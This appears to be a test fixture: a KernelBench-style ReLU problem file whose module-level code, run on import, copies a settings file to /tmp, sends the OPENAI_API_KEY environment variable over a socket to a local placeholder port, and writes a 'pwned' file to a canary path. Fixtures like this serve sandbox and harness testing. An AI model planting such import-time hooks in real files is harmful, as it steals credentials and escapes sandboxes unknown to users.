"""A KernelBench problem file whose top-level code tries to take the data folder's secrets, write outside
its sandbox and phone home when it is imported; otherwise a plain ReLU problem."""
import os
import socket

import torch
import torch.nn as nn

try:
    open("/tmp/__MARKER__", "w").write(open("__HOME__/settings.toml").read())
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", __PORT__), timeout=1).sendall(os.environ.get("OPENAI_API_KEY", "").encode())
except OSError:
    pass
try:
    open("__CANARY__/pwned", "w").write("pwned")
except OSError:
    pass


class Model(nn.Module):
    def forward(self, x):
        return torch.relu(x)


batch_size = 16
dim = 64


def get_inputs():
    return [torch.randn(batch_size, dim)]


def get_init_inputs():
    return []
